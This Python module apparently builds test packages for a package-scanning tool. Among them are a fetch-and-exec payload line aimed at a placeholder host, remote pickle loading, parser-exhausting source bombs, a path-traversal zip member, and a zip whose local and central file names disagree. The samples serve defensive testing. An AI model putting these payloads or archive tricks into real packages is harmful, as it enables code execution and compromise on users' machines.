"""Builds the packages of the tests, good and hostile. Nothing hostile is stored as a file, and nothing here is ever executed."""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import random
import struct
import tarfile
import zipfile

WHEN = (2024, 1, 1, 0, 0, 0)
DOCSTRING = b'"""An example."""\n'

DOWNLOADED = (
    b"import pickle\n\nimport requests\n\n"
    b"MODEL = pickle.loads(requests.get('https://files.example/model').content)\n"
)
"""A risky construct in ordinary code: the rule `downloaded-pickle`."""

EXFILTRATE = (
    b"import base64, os, urllib.request\n"
    b"exec(base64.b64decode(urllib.request.urlopen('https://files.example/x').read()))\n"
)
"""What malicious packages do at import."""

BOMBS = {
    "attributes": b"x = a" + b".b" * 900_000 + b"\n",
    "calls": b"x = f" + b"()" * 200_000 + b"\n",
    "negations": b"x = " + b"not " * 500_000 + b"y\n",
    "sums": b"x = a" + b"+a" * 900_000 + b"\n",
    "lambdas": b"x = " + b"lambda:" * 64_000 + b"0\n",
    "brackets": b"x = " + b"[" * 100_000 + b"]" * 100_000 + b"\n",
    "table": b"x = {" + b"".join(b"%d: 'v',\n" % number for number in range(1_000_000)) + b"}\n",
}
"""Sources that exhaust the stack, the memory or the time of Python parsers (the shapes that the performance notes list)."""


def record(files: dict[str, bytes], name: str) -> bytes:
    lines = []
    for path, content in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(content).digest()).rstrip(b"=").decode()
        lines.append(f"{path},sha256={digest},{len(content)}\n")
    return "".join([*lines, f"{name},,\n"]).encode()


def zipped(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, content in files.items():
            archive.writestr(zipfile.ZipInfo(path, WHEN), content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def wheel(name: str, version: str, modules: dict[str, bytes] | None = None, requires: tuple[str, ...] = ()) -> bytes:
    """A wheel with a right RECORD; `modules` stand beside the package's own `__init__.py`."""
    info = f"{name}-{version}.dist-info"
    metadata = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
    metadata += "".join(f"Requires-Dist: {requirement}\n" for requirement in requires)
    files = {f"{name}/__init__.py": DOCSTRING, **(modules or {})}
    files[f"{info}/METADATA"] = metadata.encode()
    files[f"{info}/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    files[f"{info}/RECORD"] = record(files, f"{info}/RECORD")
    return zipped(files)


def wheel_name(name: str, version: str) -> str:
    return f"{name}-{version}-py3-none-any.whl"


def sdist(name: str, version: str, setup: bytes = b"from setuptools import setup\n\nsetup()\n") -> bytes:
    """A source distribution as a `.tar.gz`."""
    top = f"{name}-{version}"
    files = {
        f"{top}/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
        f"{top}/setup.py": setup,
        f"{top}/{name}/__init__.py": DOCSTRING,
    }
    return tarred(files)


def tarred(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for path, content in files.items():
            member = tarfile.TarInfo(path)
            member.size, member.mtime = len(content), 1_704_067_200
            archive.addfile(member, io.BytesIO(content))
    return gzip.compress(buffer.getvalue(), mtime=0)


def plain(top: str, files: dict[str, bytes] | None = None) -> bytes:
    """A source archive as a forge gives it: a zip with one folder at the top."""
    return zipped({f"{top}/{path}": content for path, content in (files or {"example.py": DOCSTRING}).items()})


def bomb(name: str, version: str, shape: str) -> bytes:
    """A wheel with a source that kills parsers."""
    return wheel(name, version, {f"{name}/bomb.py": BOMBS[shape]})


def traversal(top: str) -> bytes:
    """A member that an extractor would write outside its folder."""
    return zipped({f"{top}/example.py": DOCSTRING, "../../escaped.py": DOCSTRING})


def two_readings(top: str) -> bytes:
    """A member that one reader finds under a harmless name, and another under its own: local and central names differ."""
    whole = zipped({f"{top}/example.py": DOCSTRING, f"{top}/aaaa.txt": b"harmless\n"})
    first = whole.index(f"{top}/aaaa.txt".encode())
    length = len(f"{top}/aaaa.txt")
    return whole[:first] + f"{top}/evil.py".ljust(length, "x")[:length].encode() + whole[first + length :]


def encrypted(name: str, version: str) -> bytes:
    """A wheel with a member that is marked as encrypted."""
    whole = bytearray(wheel(name, version, {f"{name}/hidden.dat": b"\x13" * 64}))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := whole.find(signature, at + 1)) >= 0:
            start, sizes = (at + 30, at + 26) if signature == b"PK\x03\x04" else (at + 46, at + 28)
            (length,) = struct.unpack_from("<H", whole, sizes)
            if whole[start : start + length] == f"{name}/hidden.dat".encode():
                (flags,) = struct.unpack_from("<H", whole, at + offset)
                struct.pack_into("<H", whole, at + offset, flags | 1)
    return bytes(whole)


def page() -> bytes:
    """What a host answers that wants a login first: no archive."""
    return b"<!DOCTYPE html><html><body>Please sign in.</body></html>"


def noise(size: int) -> bytes:
    """Text that does not compress much, the same each time."""
    return random.Random(1).randbytes(size // 2).hex().encode()


def advisories() -> bytes:
    """An OSV export with one critical advisory, on `holey` 1.0."""
    osv = {
        "schema_version": "1.6.0",
        "id": "GHSA-test-0001-aaaa",
        "modified": "2024-01-02T00:00:00Z",
        "published": "2024-01-01T00:00:00Z",
        "summary": "Anybody can run commands",
        "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
        "affected": [
            {
                "package": {"ecosystem": "PyPI", "name": "holey", "purl": "pkg:pypi/holey"},
                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "1.1"}]}],
                "versions": ["1.0"],
            }
        ],
    }
    return zipped({f"{osv['id']}.json": json.dumps(osv).encode()})


def build(kind: str, name: str, version: str) -> tuple[str, bytes]:
    """A package of the scenario table: its file name and bytes."""
    module = f"{name}/work.py"
    if kind.startswith("bomb-"):
        return wheel_name(name, version), bomb(name, version, kind.removeprefix("bomb-"))
    wheels = {
        "clean": lambda: wheel(name, version),
        "risky": lambda: wheel(name, version, {module: DOWNLOADED}),
        "malware": lambda: wheel(name, version, {f"{name}/start.py": EXFILTRATE}),
        "encrypted": lambda: encrypted(name, version),
        "native": lambda: wheel(name, version, {f"{name}/core.so": b"\x7fELF\x02\x01\x01" + bytes(57)}),
        "undecodable": lambda: wheel(name, version, {module: b"x = '\xff\xfe'\n"}),
        "other-name": lambda: wheel(f"not_{name}", version),
        "page": page,
    }
    archives = {
        "plain": lambda: plain(f"{name}-{version}"),
        "traversal": lambda: traversal(f"{name}-{version}"),
        "two-readings": lambda: two_readings(f"{name}-{version}"),
        "page-archive": page,
    }
    if kind == "sdist":
        return f"{name}-{version}.tar.gz", sdist(name, version)
    if kind in wheels:
        return wheel_name(name, version), wheels[kind]()
    return f"{name}-{version}.zip", archives[kind]()
